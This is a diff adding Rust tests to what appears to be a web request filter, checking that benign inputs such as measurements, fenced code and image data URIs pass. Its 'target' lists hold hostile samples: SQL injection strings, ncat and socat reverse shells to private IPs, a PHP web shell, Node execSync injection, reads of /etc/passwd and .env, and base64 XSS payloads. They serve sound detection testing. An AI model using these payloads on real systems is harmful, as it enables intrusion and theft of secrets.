@@ -856,3 +856,127 @@ fn names_joined_from_string_literals_and_other_spellings_are_found() {
         assert_eq!(rule_for(benign), None, "{benign}");
     }
 }
+
+/// A boolean and a constant after a closed string is a condition when SQL
+/// can go on from there; a quote then a word is a measure (feet, inches).
+#[test]
+fn measures_in_feet_and_inches_are_no_tautology() {
+    for benign in [
+        "/?q=5%27+or+6%27+ladder",
+        "/?q=8%27+or+10%27+extension+cord",
+        "/?q=1%2F2%22+or+3%2F4%22+pipe+fittings",
+        "/?q=6%22+and+8%22+cake+pans",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+    for target in [
+        "/?id=x%27+or+1%3D%271",
+        "/?id=x%27+or+1--",
+        "/?id=x%27+or+1+%23",
+        "/?id=x%27+or+1%27%3D%271",
+        "/?id=x%27+or+1%27",
+        "/?id=x%22+or+true--",
+        "/?id=x%27+and+0%27+%23",
+    ] {
+        let rule = rule_for(target).unwrap_or("none");
+        assert!(
+            rule.starts_with("sqli-") || rule.starts_with("libinjection"),
+            "{target}: {rule}"
+        );
+    }
+}
+
+/// By default a fenced block is Markdown, not the shell's backtick: code
+/// in another language passes, and a line that is a command line, a code
+/// span, a template literal's `${...}` or `<?php` is still refused.
+#[test]
+fn fenced_code_blocks_are_read_line_by_line() {
+    const JSON: &str = "application/json";
+    for text in [
+        r"Python:\n\n```python\nimport os\nprint(os.path.join('a', 'b'))\n```",
+        r"```rust\nfn main() {\n    println!(\u0022{}\u0022, 1);\n}\n```\n\nPrints one.",
+        r"My compose file:\n\n```yaml\nservices:\n  web:\n    image: nginx\n    ports:\n      - \u002280:80\u0022\n```",
+        r"Install:\n\n```bash\ncargo install acme-cli\n```",
+        r"```python\ntop = rows[0]\ndate = datetime.now()\n```",
+    ] {
+        let body = format!(r#"{{"comment": "{text}"}}"#);
+        assert_eq!(post_rule(JSON, &body), None, "{text}");
+    }
+    for text in [
+        r"Here is my code:\n```python\nid\n```",
+        r"```python\nps aux\n```\nthanks a lot",
+        r"```js\ncat .env\n```",
+        r"```\nid -u\n```\nok",
+        r"see\n```text\nncat 1.2.3.4 4444 -e sh\n```",
+        r"see\n```sh\nsocat tcp-connect:10.0.0.1:4444 exec:bash,pty\n```",
+        r"see\n```py\npython3 -c 'import os; os.system(1)'\n```",
+        r"see\n```\nnode -e 'require(1)'\n```",
+        r"see\n```js\n${require('child_process').execSync('id')}\n```",
+        r"see\n```php\n<?php system($_GET['c']); ?>\n```",
+        r"```js\nlet x = 1;\n```\nand then `id` please",
+        r"```js\nlet x = 1;\n```\nthen x; cat /etc/passwd",
+        r"```js\nx\n```\n' union select password from users--",
+    ] {
+        let body = format!(r#"{{"comment": "{text}"}}"#);
+        assert!(post_rule(JSON, &body).is_some(), "{text}");
+    }
+}
+
+/// A picture as a `data:` URI (an editor's pasted image, an avatar) is no
+/// script; anything else in a `data:` URI still is.
+#[test]
+fn raster_images_in_data_uris_pass() {
+    const JSON: &str = "application/json";
+    const PNG: &str = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
+    assert_eq!(post_rule(JSON, &format!(r#"{{"avatar": "{PNG}"}}"#)), None);
+    let html = format!(r#"{{"html": "<p><img src=\"{PNG}\"></p>"}}"#);
+    assert_eq!(post_rule(JSON, &html), None);
+    for value in [
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
+        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+    ] {
+        let body = format!(r#"{{"avatar": "{value}"}}"#);
+        assert!(post_rule(JSON, &body).is_some(), "{value}");
+    }
+    let both = format!(r#"{{"a": "{PNG} data:text/html;base64,PHNjcmlwdD4="}}"#);
+    assert!(post_rule(JSON, &both).is_some());
+    let include = format!(r#"{{"include_path": "{PNG}"}}"#);
+    assert!(post_rule(JSON, &include).is_some());
+}
+
+/// A timer given a function runs no string; one given a string, a
+/// variable or a call's result still is a script sink.
+#[test]
+fn timers_given_functions_pass() {
+    for benign in [
+        "/?c=t+%3D+setTimeout(()+%3D%3E+fn(...args)%2C+ms)%3B",
+        "/?c=setInterval(function+(n)+%7B+step(n)%3B+%7D%2C+1000)",
+        "/?c=setTimeout(async+x+%3D%3E+load(x))",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+    for target in [
+        "/?c=setTimeout(%27alert(1)%27)",
+        "/?c=setTimeout(name)",
+        "/?c=setTimeout(atob(%27YWxlcnQoMSk%27))",
+        "/?c=setTimeout(()+%3D%3E+1)%3BsetTimeout(location.hash.slice(1))",
+    ] {
+        assert!(rule_for(target).is_some(), "{target}");
+    }
+}
+
+/// A code span or block is a template literal to JavaScript: its `${...}`
+/// run, with `markdown_prose` on too.
+#[test]
+fn template_substitutions_in_quoted_code_are_read() {
+    const JSON: &str = "application/json";
+    for text in [
+        r"Nice post, see this:\n```js\n${require('child_process').execSync('id')}\n```",
+        r"Nice post, thanks a lot `${process.mainModule.require('fs')}` again",
+    ] {
+        let body = format!(r#"{{"comment": "{text}"}}"#);
+        assert!(post_rule_markdown(JSON, &body).is_some(), "{text}");
+        assert!(post_rule(JSON, &body).is_some(), "{text}");
+    }
+}
